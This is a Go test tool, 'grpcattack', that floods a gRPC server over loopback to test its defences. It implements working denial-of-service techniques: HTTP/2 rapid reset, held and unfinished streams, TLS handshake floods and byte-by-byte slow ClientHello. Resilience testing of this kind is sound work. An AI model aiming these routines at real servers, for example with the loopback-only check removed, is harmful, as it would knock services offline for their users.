// Command grpcattack attacks a gRPC door (limitd's --grpc-listen) the way
// an unauthenticated client on the network can, speaking HTTP/2 frames
// itself, and prints what it saw as one JSON line. The end-to-end test of
// the door (e2e/grpcdoor_test.go) runs it as a process of its own against
// the real build/limitd. It refuses any address but a loopback one, and
// every mode is bounded in connections, streams, bytes and time.
//
//	grpcattack -addr 127.0.0.1:PORT -mode MODE [-conns N] [-streams N] [-for D] [-token T] [-mixed]
//	           [-tls] [-tls-ca FILE] [-tls-cert FILE -tls-key FILE]
//
// Each connection's part lasts -for from its dialing (at most; it ends when
// the server closes the connection).
//
// Modes:
//
//	holders     N connections, half sending only the HTTP/2 preface, half
//	            holding a grpc.health.v1.Health/Watch stream without a
//	            token; held -for, counting those the server closes.
//	unfinished  N connections, each opening -streams streams without a
//	            token (health Checks; with -mixed, ShouldRateLimit calls
//	            in turn), each sending most of a message that never ends;
//	            held -for.
//	reset       N connections doing rapid reset (HEADERS, DATA,
//	            RST_STREAM) until the server closes them, at most a million
//	            streams each or -for; with -token, every other connection
//	            carries it.
//	handshakes  N connections in turn, each dialing and running a TLS
//	            handshake (with -tls-cert, presenting that certificate: a
//	            wrong, expired or untrusted one), closing and dialing
//	            again, until -for or maxHandshakes each: a handshake flood.
//	slowhello   N connections each sending a TLS ClientHello one byte every
//	            -byte-every, never finishing; held -for, counting those the
//	            server closes.
//
// With -tls (implied by -tls-ca or -tls-cert), the other modes speak
// HTTP/2 over TLS (trusting -tls-ca, else any server certificate).
package main

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Bounds of every mode.
const (
	maxConns     = 4096
	maxStreams   = 256
	maxFor       = 2 * time.Minute
	maxResets    = 1_000_000
	chunkBytes   = 15 << 10 // of an unfinished message, per DATA frame
	messageBytes = 60 << 10 // of an unfinished message sent (of 64 KiB announced)
	// maxHandshakes bounds each connection's handshakes (mode handshakes).
	maxHandshakes = 100_000
)

// Report is what the attack saw.
type Report struct {
	Mode string `json:"mode"`
	// Opened: connections whose HTTP/2 handshake completed; Refused: the
	// others (closed by the server at once).
	Opened  int `json:"opened"`
	Refused int `json:"refused"`
	// Closed: opened connections the server closed before the attack
	// ended; ClosedAfter: when the last of them was closed.
	Closed      int     `json:"closed"`
	ClosedAfter float64 `json:"closed_after_s"`
	// Streams: streams opened; DataBytes: message bytes sent.
	Streams   int   `json:"streams"`
	DataBytes int64 `json:"data_bytes"`
	// Resets: RST_STREAM frames sent (mode reset).
	Resets int64 `json:"resets"`
	// Handshakes and HandshakeFailures: TLS handshakes completed and
	// failed (mode handshakes; for slowhello, HelloBytes sent).
	Handshakes        int64   `json:"handshakes"`
	HandshakeFailures int64   `json:"handshake_failures"`
	HelloBytes        int64   `json:"hello_bytes"`
	Seconds           float64 `json:"seconds"`
}

func main() {
	addr := flag.String("addr", "", "the door's address (loopback only)")
	mode := flag.String("mode", "", "holders, unfinished or reset")
	conns := flag.Int("conns", 96, "connections")
	streams := flag.Int("streams", 8, "streams per connection (unfinished)")
	hold := flag.Duration("for", 15*time.Second, "how long each connection's part of the attack lasts, from its dialing")
	token := flag.String("token", "", "a bearer token (reset: every other connection carries it)")
	mixed := flag.Bool("mixed", false, "unfinished: every other stream calls ShouldRateLimit (else health Check only)")
	useTLS := flag.Bool("tls", false, "speak TLS (implied by -tls-ca and -tls-cert)")
	ca := flag.String("tls-ca", "", "the CA (PEM) the server's certificate is checked against (else any is accepted)")
	cert := flag.String("tls-cert", "", "a client certificate (PEM) to present, with -tls-key")
	key := flag.String("tls-key", "", "the key of -tls-cert (PEM)")
	every := flag.Duration("byte-every", 200*time.Millisecond, "slowhello: the interval between the ClientHello's bytes")
	flag.Parse()
	cfg, err := clientTLS(*useTLS, *ca, *cert, *key)
	if err == nil {
		err = run(*addr, *mode, *conns, *streams, *hold, *token, *mixed, cfg, *every)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "grpcattack:", err)
		os.Exit(2)
	}
}

// clientTLS is the attacker's TLS configuration, nil without TLS.
func clientTLS(on bool, ca, cert, key string) (*tls.Config, error) {
	if !on && ca == "" && cert == "" {
		return nil, nil
	}
	cfg := &tls.Config{NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12, ServerName: "127.0.0.1"}
	if ca == "" {
		cfg.InsecureSkipVerify = true // an attacker does not care whom it floods
	} else {
		b, err := os.ReadFile(ca)
		if err != nil {
			return nil, fmt.Errorf("-tls-ca: %w", err)
		}
		cfg.RootCAs = x509.NewCertPool()
		if !cfg.RootCAs.AppendCertsFromPEM(b) {
			return nil, fmt.Errorf("-tls-ca %s: no PEM certificate", ca)
		}
	}
	if cert != "" {
		pair, err := tls.LoadX509KeyPair(cert, key)
		if err != nil {
			return nil, fmt.Errorf("-tls-cert: %w", err)
		}
		cfg.Certificates = []tls.Certificate{pair}
	}
	return cfg, nil
}

func run(addr, mode string, conns, streams int, hold time.Duration, token string, mixed bool, cfg *tls.Config, every time.Duration) error {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return fmt.Errorf("-addr: %w", err)
	}
	if ip := net.ParseIP(host); ip == nil || !ip.IsLoopback() {
		return fmt.Errorf("-addr %s: loopback addresses only", addr)
	}
	switch {
	case conns < 1 || conns > maxConns:
		return fmt.Errorf("-conns: 1 to %d, got %d", maxConns, conns)
	case streams < 1 || streams > maxStreams:
		return fmt.Errorf("-streams: 1 to %d, got %d", maxStreams, streams)
	case hold <= 0 || hold > maxFor:
		return fmt.Errorf("-for: up to %v, got %v", maxFor, hold)
	}
	a := &attack{addr: addr, start: time.Now(), hold: hold, token: token, tls: cfg}
	a.report.Mode = mode
	switch mode {
	case "handshakes", "slowhello":
		if cfg == nil {
			return fmt.Errorf("-mode %s: needs -tls", mode)
		}
		if mode == "slowhello" && (every <= 0 || every > hold) {
			return fmt.Errorf("-byte-every: 0 to -for, got %v", every)
		}
		return a.tlsFlood(mode, conns, every)
	}
	var each func(i int, c *client)
	switch mode {
	case "holders":
		each = a.holder
	case "unfinished":
		each = func(i int, c *client) { a.unfinished(c, streams, mixed) }
	case "reset":
		each = a.reset
	default:
		return fmt.Errorf("-mode: holders, unfinished, reset, handshakes or slowhello, got %q", mode)
	}
	var wg sync.WaitGroup
	for i := range conns {
		c, err := a.dial()
		if err != nil {
			a.count(func(r *Report) { r.Refused++ })
			continue
		}
		a.count(func(r *Report) { r.Opened++ })
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.conn.Close()
			each(i, c)
			if c.waitClosed() {
				a.count(func(r *Report) {
					r.Closed++
					r.ClosedAfter = max(r.ClosedAfter, c.closedAt.Sub(a.start).Seconds())
				})
			}
		}()
	}
	fmt.Fprintf(os.Stderr, "grpcattack: dialed %d connections\n", conns)
	wg.Wait()
	a.report.Seconds = time.Since(a.start).Seconds()
	return json.NewEncoder(os.Stdout).Encode(&a.report)
}

type attack struct {
	addr   string
	start  time.Time
	hold   time.Duration // each connection's, from its dialing
	token  string
	tls    *tls.Config // nil: cleartext
	mu     sync.Mutex
	report Report
}

func (a *attack) count(f func(*Report)) {
	a.mu.Lock()
	f(&a.report)
	a.mu.Unlock()
}

// client is one raw HTTP/2 connection; a goroutine reads (and drops) what
// the server sends, until it closes.
type client struct {
	conn     net.Conn
	fr       *http2.Framer
	wmu      sync.Mutex // the framer's writes
	enc      *hpack.Encoder
	hbuf     bytes.Buffer
	next     uint32
	done     chan struct{} // closed when the server closed the connection
	closedAt time.Time
	end      time.Time // the connection's part of the attack ends
}

func (a *attack) dial() (*client, error) {
	conn, err := net.DialTimeout("tcp", a.addr, 10*time.Second)
	if err != nil {
		return nil, err
	}
	if a.tls != nil {
		tc := tls.Client(conn, a.tls)
		_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
		if err := tc.Handshake(); err != nil {
			conn.Close()
			return nil, err
		}
		conn = tc
	}
	c := &client{conn: conn, fr: http2.NewFramer(conn, conn), next: 1, done: make(chan struct{}), end: time.Now().Add(a.hold)}
	c.enc = hpack.NewEncoder(&c.hbuf)
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, http2.ClientPreface); err == nil {
		err = c.fr.WriteSettings()
	}
	for err == nil {
		var f http2.Frame
		if f, err = c.fr.ReadFrame(); err == nil {
			if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
				err = c.fr.WriteSettingsAck()
				break
			}
		}
	}
	if err != nil {
		conn.Close()
		return nil, err
	}
	_ = conn.SetDeadline(time.Time{})
	go func() {
		buf := make([]byte, 32<<10)
		for {
			if _, err := conn.Read(buf); err != nil {
				c.closedAt = time.Now()
				close(c.done)
				return
			}
		}
	}()
	return c, nil
}

// waitClosed waits until the server closes the connection (true) or its
// end.
func (c *client) waitClosed() bool {
	select {
	case <-c.done:
		return true
	case <-time.After(time.Until(c.end)):
		return false
	}
}

func (c *client) closed() bool {
	select {
	case <-c.done:
		return true
	default:
		return false
	}
}

// open sends the HEADERS of a call to method (with token unless empty).
func (c *client) open(method, token string) (uint32, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	c.hbuf.Reset()
	for _, hf := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "limitd"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = c.enc.WriteField(hpack.HeaderField{Name: hf[0], Value: hf[1]})
	}
	if token != "" {
		_ = c.enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
	}
	id := c.next
	c.next += 2
	return id, c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true})
}

func (c *client) data(id uint32, p []byte, end bool) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteData(id, end, p)
}

func (c *client) rst(id uint32) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

const (
	watchMethod = "/grpc.health.v1.Health/Watch"
	checkMethod = "/grpc.health.v1.Health/Check"
	rlsMethod   = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
)

// holder: the even connections send nothing more; the odd ones hold a
// health Watch (an empty request: all services).
func (a *attack) holder(i int, c *client) {
	if i%2 == 0 {
		return
	}
	id, err := c.open(watchMethod, "")
	if err == nil {
		err = c.data(id, []byte{0, 0, 0, 0, 0}, true)
	}
	if err == nil {
		a.count(func(r *Report) { r.Streams++ })
	}
}

// unfinished opens streams streams, each sending messageBytes of a message
// announced as 64 KiB - 1, never finished: health Checks, or with mixed
// every other one a ShouldRateLimit call.
func (a *attack) unfinished(c *client, streams int, mixed bool) {
	chunk := make([]byte, chunkBytes)
	for s := range streams {
		method := checkMethod
		if mixed && s%2 == 1 {
			method = rlsMethod
		}
		id, err := c.open(method, "")
		if err != nil {
			return
		}
		a.count(func(r *Report) { r.Streams++ })
		prefix := []byte{0, 0, 0, 0xff, 0xff} // uncompressed, 65,535 bytes
		if err := c.data(id, prefix, false); err != nil {
			return
		}
		for sent := 0; sent < messageBytes; sent += chunkBytes {
			if c.closed() || time.Now().After(c.end) {
				return
			}
			if err := c.data(id, chunk, false); err != nil {
				return
			}
			a.count(func(r *Report) { r.DataBytes += chunkBytes })
		}
	}
}

// reset does rapid reset until the server closes the connection, maxResets
// or the end.
func (a *attack) reset(i int, c *client) {
	token := ""
	if i%2 == 1 {
		token = a.token
	}
	msg := []byte{0, 0, 0, 0, 8, 10, 3, 'r', 'l', 's'} // a message of 8 bytes, 5 sent
	var n int64
	defer func() { a.count(func(r *Report) { r.Resets += n; r.Streams += int(n) }) }()
	for n < maxResets && !c.closed() && (n%1024 != 0 || time.Now().Before(c.end)) {
		id, err := c.open(rlsMethod, token)
		if err == nil {
			err = c.data(id, msg, false)
		}
		if err == nil {
			err = c.rst(id)
		}
		if err != nil {
			return
		}
		n++
	}
}

// tlsFlood runs the modes handshakes and slowhello: conns connections
// (dialed at once), each for a.hold.
func (a *attack) tlsFlood(mode string, conns int, every time.Duration) error {
	hello, err := clientHello(a.tls)
	if err != nil {
		return err
	}
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			end := time.Now().Add(a.hold)
			if mode == "handshakes" {
				a.handshakes(end)
			} else {
				a.slowHello(hello, every, end)
			}
		}()
	}
	fmt.Fprintf(os.Stderr, "grpcattack: dialed %d connections\n", conns)
	wg.Wait()
	a.report.Seconds = time.Since(a.start).Seconds()
	return json.NewEncoder(os.Stdout).Encode(&a.report)
}

// handshakes dials and runs a full TLS handshake until end or
// maxHandshakes. A refused client certificate shows under TLS 1.3 only
// on the first read after the handshake, so every handshake reads once
// (the server's HTTP/2 settings when accepted).
func (a *attack) handshakes(end time.Time) {
	var ok, failed int64
	defer func() { a.count(func(r *Report) { r.Handshakes += ok; r.HandshakeFailures += failed }) }()
	buf := make([]byte, 64)
	for n := 0; n < maxHandshakes && time.Now().Before(end); n++ {
		conn, err := net.DialTimeout("tcp", a.addr, 10*time.Second)
		if err != nil {
			failed++
			continue
		}
		tc := tls.Client(conn, a.tls)
		_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
		err = tc.Handshake()
		if err == nil {
			_, err = tc.Read(buf)
		}
		conn.Close()
		if err != nil {
			failed++
		} else {
			ok++
		}
	}
}

// slowHello sends hello one byte every interval until the server closes
// the connection or end.
func (a *attack) slowHello(hello []byte, every time.Duration, end time.Time) {
	conn, err := net.DialTimeout("tcp", a.addr, 10*time.Second)
	if err != nil {
		a.count(func(r *Report) { r.Refused++ })
		return
	}
	defer conn.Close()
	a.count(func(r *Report) { r.Opened++ })
	closed := make(chan time.Time, 1)
	go func() {
		buf := make([]byte, 1024)
		for {
			if _, err := conn.Read(buf); err != nil {
				closed <- time.Now()
				return
			}
		}
	}()
	var sent int64
	defer func() { a.count(func(r *Report) { r.HelloBytes += sent }) }()
	t := time.NewTicker(every)
	defer t.Stop()
	for i := 0; ; i++ {
		if i < len(hello)-1 { // never the last byte
			if _, err := conn.Write(hello[i : i+1]); err == nil {
				sent++
			}
		}
		select {
		case at := <-closed:
			a.count(func(r *Report) { r.Closed++; r.ClosedAfter = max(r.ClosedAfter, at.Sub(a.start).Seconds()) })
			return
		case <-t.C:
			if time.Now().After(end) {
				return
			}
		}
	}
}

// clientHello returns the first record a TLS client with cfg sends: its
// ClientHello, captured from a handshake over a connection that records
// what is written and fails every read.
func clientHello(cfg *tls.Config) ([]byte, error) {
	rec := &recorder{}
	_ = tls.Client(rec, cfg).Handshake() // fails at its first read, after the ClientHello
	if len(rec.b) < 6 {
		return nil, errors.New("grpcattack: no ClientHello captured")
	}
	return rec.b, nil
}

// recorder is a net.Conn that keeps what is written and fails reads.
type recorder struct {
	net.Conn // nil: only the methods below are called
	b        []byte
}

func (r *recorder) Write(p []byte) (int, error) { r.b = append(r.b, p...); return len(p), nil }

func (r *recorder) Read([]byte) (int, error) { return 0, io.EOF }

func (r *recorder) Close() error { return nil }

func (r *recorder) SetDeadline(time.Time) error { return nil }

func (r *recorder) SetReadDeadline(time.Time) error { return nil }

func (r *recorder) SetWriteDeadline(time.Time) error { return nil }
